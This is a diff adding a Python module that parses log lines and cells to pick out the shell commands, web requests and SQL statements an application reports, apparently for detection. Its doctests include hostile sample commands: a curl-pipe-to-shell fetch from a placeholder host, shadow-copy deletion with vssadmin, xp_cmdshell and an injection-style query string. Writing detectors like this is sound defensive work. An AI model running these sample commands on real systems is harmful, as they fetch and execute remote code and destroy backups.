@@ -1,0 +1,267 @@
+"""What an application says in its own words, or prints in cells: that it ran a command, that somebody asked for something on the web, or a statement in SQL.
+
+Owns the words that say so, and where in a sentence or a cell the value begins and ends. Refuses what somebody gave and the application repeats: names,
+searches, subjects, and pairs that hold no message.
+"""
+from __future__ import annotations
+
+import re
+from itertools import islice
+from typing import Iterable, List, Optional, Tuple
+
+from .bare import COMMAND, REQUEST, Bare, bare_of, has_shell_sign, has_sign, is_known, is_listed
+from .names import letters_of
+from .strangers import is_strangers
+from .weblog import METHODS, WebRequest
+
+#: What an application says of a request in its own words.
+_SAID = re.compile(r"(?:^|(?<=[\s\"'\[(|:]))(?<!-X )(?<!--request )(?<!Method )([A-Z]{3,9}) ((?:https?://[^\s\"'/]{1,260})?/[^\s\"]{0,8000})\"?(?:[ ,:>=-]{1,4}HTTP/\d(?:\.\d)?\"?)?(?:[ ,:>=-]{1,4}(?:status[=: ]{1,2})?([1-5]\d\d)(?![\w.]))?")
+#: In lower case: a search for words of either case looks at every place.
+_SAID_COMMAND = re.compile(r"(?:execut(?:ed|ing|e)|exec|ran|run|running|spawn(?:ed|ing)?|start(?:ed|ing)?|launch(?:ed|ing)?|invok(?:ed|ing|e)|subprocess|command|cmd|commandline|cmdline|shell|args|input)"
+                           r"(?:[ _](?:as \S{1,40} )?(?:shell|command|process|subprocess|program|cmd|line|script|call|args))*(?:\s?(:|->|=>)\s{0,3}|\s{0,3}(?=[\"'`\[])|\s{1,3})")
+#: No word for an act stands behind these: they are another word's, a name's or a page's.
+_BEFORE_SAID = re.compile(r"[\w.?&'-]")
+#: Behind another word these bid somebody to run something.
+_BIDDING = re.compile(r"(?:run|execute|invoke)\b")
+_SAID_REACH = 400
+#: So many places are looked at where one of these may begin.
+SAID_MAX = 6
+_CLIENT = re.compile(r"(?<![\w.:/=-])((?:\d{1,3}\.){3}\d{1,3})(?![\w.])")
+#: No value behind such words is longer.
+LINE_REACH = 4_096
+
+
+def is_plain(bare: Bare) -> bool:
+    """Whether a command shows without any name beside it that it is one: by a program that is no word as well, and what follows."""
+    return (bare.is_script or bool(bare.programs) and is_known(bare.programs[0])) and has_sign(bare.value)
+
+
+def certain(text: str) -> Optional[Bare]:
+    """The command that `text` is by its shape; a word alone may be anything."""
+    bare = bare_of(text) if " " in text else None
+    return bare if bare is not None and bare.kind == COMMAND else None
+
+
+def command_said(text: str) -> Optional[Bare]:
+    """The command that an application says it ran, behind the word for that.
+
+    >>> command_said("job 7: executing command: curl http://gate/x | sh").programs, command_said("Command: start the engine")
+    (('curl', 'sh'), None)
+    >>> command_said("ran ['sh', '-c', 'curl http://gate/x | sh'] in /tmp").value, command_said("user ann ran `vssadmin delete shadows /all` (exit 0)").value
+    ('sh -c "curl http://gate/x | sh"', 'vssadmin delete shadows /all')
+    """
+    told = command_told(text)
+    return told[1] if told is not None else None
+
+
+#: Where in a line the words begin that say it, and what they say.
+Told = Tuple[int, Bare]
+
+
+def command_told(text: str) -> Optional[Told]:
+    """The same, and where the words begin that say it."""
+    head = text[:_SAID_REACH].lower()
+    if len(head) != len(text[:_SAID_REACH]):
+        return None  # places in it are others
+    for said in islice((said for said in _SAID_COMMAND.finditer(head) if _is_word_for_act(head, said.start())), SAID_MAX):
+        bare = None if _is_of_other(text, said.start()) or _is_given(text, said.start()) else certain(value_from(text, said.end()))
+        if bare is not None and (said[1] or is_plain(bare) or text[said.end():said.end() + 1] in _OPENING and has_shell_sign(bare.value)):
+            return said.start(), bare
+    return None
+
+
+def _is_word_for_act(head: str, start: int) -> bool:
+    """Whether the word at `start` is one of its own, no other's object and nothing that somebody is bidden."""
+    if not start:
+        return True
+    if _BEFORE_SAID.match(head, start - 1) or head.endswith(("invalid ", "user "), 0, start):
+        return False
+    return not (head[max(0, start - 2)].isalpha() and _BIDDING.match(head, start))
+
+
+def _is_given(text: str, start: int) -> bool:
+    """Whether the words before `start` are about a name, a search or a mail that somebody gave."""
+    return _GIVEN.search(text, 0, start) is not None
+
+
+_GIVEN = re.compile(r"(?i)\b(?:log[io]n|sign.?in|auth\w{0,12}|password|user(?:name)?|account)\b.{0,80}?\b(?:fail|invalid|den(?:y|ied)|reject|incorrect|unknown|illegal)|"
+                    r"\b(?:fail\w{0,3}|invalid|denied|rejected|incorrect|unknown|illegal)\b.{0,40}?\b(?:log[io]n|user|account|password)|\b(?:subject|user.?agent|referr?er|search\w{0,3}|query|cookie|header|comment|title)\b")
+
+
+def _is_of_other(text: str, start: int) -> bool:
+    """Whether what begins at `start` stands in the value of a pair that holds no message."""
+    if "=" not in text[:start]:
+        return False
+    if text.count('"', 0, start) % 2 == 0:
+        return False
+    name = _NAME_BEFORE.search(text, 0, text.rindex('"', 0, start))
+    return name is not None and letters_of(name[1]) not in MESSAGES
+
+
+#: What members are called that hold an application's own words.
+MESSAGES = ("message", "msg", "text")
+_NAME_BEFORE = re.compile(r"([\w.-]{1,60})=\Z")
+#: Signs that open a value in a sentence.
+_OPENING = frozenset("\"'`[")
+#: Where a value in quotes ends, though such quotes may stand in it: the line does, or goes on in its own words.
+_CLOSING = {sign: re.compile(rf"{sign}(?=\s*(?:\Z|[,;)\]|])| (?:in|on|as|by|for|with|from|at|exit|rc|took|returned|user|pid|\(|\w+=))") for sign in "\"'`"}
+_CLOSING["["] = re.compile(r"\](?=\Z|[\s,;)/.:])")
+_LISTED = re.compile(r"\s{0,3}(?:'((?:[^'\\]|\\.){0,8000})'|\"((?:[^\"\\]|\\.){0,8000})\")\s{0,3}(?:,|(?=\]))")
+_LISTED_MAX = 64
+_NEXT_NAME = re.compile(r"[,;|] ?[A-Za-z][\w-]{1,40}(?: [A-Za-z]\w{1,20})?: ")
+
+
+def value_from(text: str, start: int) -> str:
+    """The value that begins at `start` in a sentence: in quotes, as a list of words, or as far as the line goes."""
+    sign, rest = text[start:start + 1], text[start:start + LINE_REACH]
+    if sign not in _OPENING:
+        following = _NEXT_NAME.search(rest)
+        return (rest if following is None else rest[:following.start()]).rstrip()
+    if sign == "[" and (listed := _list_of(rest)):
+        return listed
+    end = _CLOSING[sign].search(rest, 1)
+    return rest[1:end.start() if end is not None else len(rest)].strip()
+
+
+def _list_of(text: str) -> str:
+    """The command in a list of words in quotes, as Python and JSON print one; "" where `text` begins with no list."""
+    words: List[str] = []
+    position = 1
+    while len(words) < _LISTED_MAX and (word := _LISTED.match(text, position)) is not None:
+        words.append(re.sub(r"\\(['\"\\])", r"\1", word[1] or word[2] or ""))
+        position = word.end()
+    return joined(words)
+
+
+def command_free(text: str) -> Optional[Told]:
+    """A command that stands in a line behind a prompt, a colon, a bracket or a sign between cells: one that shows by itself that it is one."""
+    for opening in islice(_FREE.finditer(text, 0, _SAID_REACH), _FREE_MAX):
+        start, sign = opening.end(), opening[1]
+        is_prompted = sign in _PROMPTS and text[start - 1] == " " and (text[:opening.start()].endswith("PS") if sign == ">" else not text[:opening.start()].rstrip("+")[-1:].isalnum())
+        if sign not in _CELLS:
+            if not is_prompted and (sign in "+$" or text[start - 1] != " " and text[start] != "/"):
+                continue
+            sign = None
+        named = _PROGRAM_NAMED.match(text, start)
+        if not is_prompted and (named is None or named[1] is not None and not (is_listed if sign is not None else is_known)(named[1])):
+            continue
+        if sign in _CELLS and text.count(sign, 0, opening.start()) < 1 or "=" in text[:start] or text.count('"', 0, start) % 2 or is_strangers(text, start) or _is_given(text, start):
+            continue
+        bare = certain(_cell_from(text, start, sign))
+        if bare is not None and (is_prompted or is_plain(bare) or sign is not None and bare.programs and is_listed(bare.programs[0]) and has_shell_sign(bare.value)):
+            return start, bare
+    return None
+
+
+#: Where a command may begin in a line that says nothing of it: in a cell, behind what a shell prints before one, or behind another sign.
+_FREE = re.compile(r"([|;,\t:\]>+$]) ?(?=[\"A-Za-z.\\/%$&(\[@])")
+_PROMPTS = frozenset("+$>")
+_FREE_MAX = 24
+_PROGRAM_NAMED = re.compile(r"\"?(?:[A-Z][a-z]{2,12}-[A-Z]\w{2,60}(?=[\s;|(])|([A-Za-z][\w.+-]{1,40})(?=[\s\"])|[A-Za-z]:\\|/(?:usr/)?(?:local/)?s?bin/|/(?:var/)?tmp/|/dev/shm/|[.&]? ?\(|\$[\w:{]{1,60}\s?[+=.\[(|]|\[[A-Za-z]|\.\\)")
+_CELLS = frozenset("|;,\t")
+
+
+def _cell_from(text: str, start: int, sign: Optional[str]) -> str:
+    """The cell that begins at `start` in a line of cells between `sign`; where no sign is, all that follows."""
+    rest = text[start:start + LINE_REACH]
+    if sign is None:
+        return value_from(text, start)
+    if rest[0] == '"':
+        end = _QUOTED_END.search(rest, 1)
+        return (rest[1:end.start()] if end is not None else rest[1:]).replace('""', '"')
+    end = re.compile(rf"(?<![\s{re.escape(sign)}]){re.escape(sign)}(?![\s{re.escape(sign)}])").search(rest)
+    return (rest[:end.start()] if end is not None else rest).rstrip()
+
+
+_QUOTED_END = re.compile(r"(?<!\")\"(?:\"\")*(?!\")")
+
+
+def joined(words: Iterable[str]) -> str:
+    """A command of which the words come one by one; those with blanks in them in quotes, as they were typed."""
+    words = [word for word in words if word]
+    if len(words) == 1:
+        word = words[0].strip()
+        return _list_of(word[:LINE_REACH]) or word[1:-1] if word[:1] == "[" and word[-1:] == "]" else word
+    return " ".join(f'"{word}"' if " " in word and '"' not in word else word for word in words).strip()
+
+
+def is_asked_for(word: str) -> bool:
+    bare = bare_of(word) if word.startswith(("/", "http")) else None
+    return bare is not None and bare.kind == REQUEST
+
+
+def request_said(text: str) -> Optional[WebRequest]:
+    """The request that an application tells in its own words, with who asked where that stands before it.
+
+    >>> request_said('INFO ::1 "GET /a?id=1%27" 200 12ms')[:3], request_said("GET along with /etc")
+    (('GET', '/a?id=1%27', '200'), None)
+    >>> request_said("10:11|192.0.2.7|GET|/a?id=1%27|200|12")[:3], request_said("Request URL: /a?id=1%27").target
+    (('GET', '/a?id=1%27', '200'), '/a?id=1%27')
+    """
+    told = request_told(text)
+    return told[1] if told is not None else None
+
+
+def request_told(text: str) -> Optional[Tuple[int, WebRequest]]:
+    """The same, and where the words begin that tell it."""
+    for said in islice(_SAID.finditer(text, 0, _SAID_REACH + 8_400), SAID_MAX) if " /" in text or " http" in text else ():
+        if said.start() > _SAID_REACH:
+            break
+        if said[1] in METHODS:
+            return said.start(), WebRequest(said[1], said[2], said[3] or "", client=_client_before(text, said.start()))
+    for cells in islice(_CELLS_OF_REQUEST.finditer(text, 0, _SAID_REACH), SAID_MAX):
+        if cells[2] in METHODS:
+            sign = cells[1]
+            target, status, _ = re.split(rf"\"?{re.escape(sign)} ?([1-5]\d\d(?!\d)|-(?={re.escape(sign)}))|\Z", text[cells.end():cells.end() + 8_000], maxsplit=1)
+            target = target if status else target.partition(sign)[0]
+            if " " not in target.strip():
+                return cells.start(), WebRequest(cells[2], target.strip(), "" if status == "-" else status or "", client=_client_before(text, cells.start() + 1))
+    asked = _ASKED.search(text, 0, _SAID_REACH + 8_400) if ("?" in text or "%" in text) and _ASKED_SIGN.search(text[:_SAID_REACH].lower()) else None
+    if asked is not None and asked.start() <= _SAID_REACH and is_asked_for(asked[1]) and ("request" in asked[0].lower() or _METHOD_SAID.search(text, 0, _SAID_REACH)):
+        method = _METHOD_SAID.search(text, 0, _SAID_REACH)
+        return asked.start(), WebRequest(method[1] if method is not None and method[1] in METHODS else "", asked[1], client=_client_before(text, len(text)))
+    return None
+
+
+def _client_before(text: str, end: int) -> str:
+    client = _CLIENT.search(text, 0, end)
+    return client[1] if client is not None else ""
+
+
+#: A method and a page in cells beside each other.
+_CELLS_OF_REQUEST = re.compile(r"([|;,\t]) ?\"?([A-Z]{3,9})\"? ?\1 ?\"?(?=/|https?://)")
+#: A page that was asked for, behind a word for it; a place alone may be anything's.
+_ASKED = re.compile(r"(?i)(?<![\w?&/.-])(?:(?:request(?:ed|ing)?|incoming|url|uri|path)\b[ _]?){1,3}(?:(?:for|to|of|line)\b ?)?\s?:?\s?[\"'\[(]?((?:https?://[^\s\"'/]{1,260})?/[^\s\"'\])?]{0,2000}[?%][^\s\"'\])]{1,8000}?)(?=[,;]?(?:[\s\"'\])]|\Z))")
+_ASKED_SIGN = re.compile(r"request|url|uri|path|incoming")
+_METHOD_SAID = re.compile(r"(?:(?i:method)\s?[:=]\s?|(?<![\w-]))\"?([A-Z]{3,9})(?![\w-])")
+
+
+def is_statement(text: object) -> bool:
+    """Whether `text` is a statement in SQL.
+
+    >>> is_statement("SELECT name FROM items"), is_statement("exec xp_cmdshell 'whoami'"), is_statement("select.example.com"), is_statement(None)
+    (True, True, False, False)
+    """
+    return isinstance(text, str) and _STATEMENT.match(text) is not None
+
+
+_STATEMENT = re.compile(r"(?is)\s{0,20}(?:/\*.{0,200}?\*/\s{0,20})?(?:select\s(?:.{0,4000}?(?:\bfrom\s|\()|\s*[@\d'])|insert\s+into\s|update\s+\S+\s+set\s|delete\s+from\s|merge\s+into\s|load\s+data\s|"
+                        r"(?:drop|alter|create|truncate)\s+(?:or\s+replace\s+)?(?:table|database|schema|user|role|login|function|procedure|trigger|view|index|server|system|extension|assembly)\s|"
+                        r"(?:grant|revoke)\s.{1,400}?\s(?:on|to|from)\s|copy\s.{1,2000}?\s(?:to|from)\s|exec(?:ute)?\s+(?:\w{1,60}\.{1,2}){0,3}(?:xp|sp|usp)_\w|call\s+[\w.]{1,80}\s?\(|with\s+\w{1,60}\s+as\s{0,3}\(|declare\s+@)")
+_SAID_STATEMENT = re.compile(r"(?i)(?:\b(?:sql|query|execut(?:ed|ing|e))\b[^:\n]{0,60}:|\(\d{1,6}\.\d{1,6}\))\s{1,3}(?=[a-z/])")
+
+
+def _has_sign_of_statement(head: str) -> bool:
+    return ": " in head and ("sql" in head or "query" in head or "execut" in head) or ") " in head and "select " in head
+
+
+def statement_said(text: str) -> str:
+    """The statement that an application tells behind the word for that, "" where it tells none.
+
+    >>> statement_said("WARN Slow query (2103 ms): SELECT count(*) FROM orders"), statement_said("query: select a colour")
+    ('SELECT count(*) FROM orders', '')
+    """
+    said = _SAID_STATEMENT.search(text, 0, _SAID_REACH) if _has_sign_of_statement(text[:_SAID_REACH].lower()) else None
+    if said is None or _STATEMENT.match(text, said.end()) is None or _is_of_other(text, said.start()) or is_strangers(text, said.start()):
+        return ""
+    return text[said.end():said.end() + LINE_REACH]
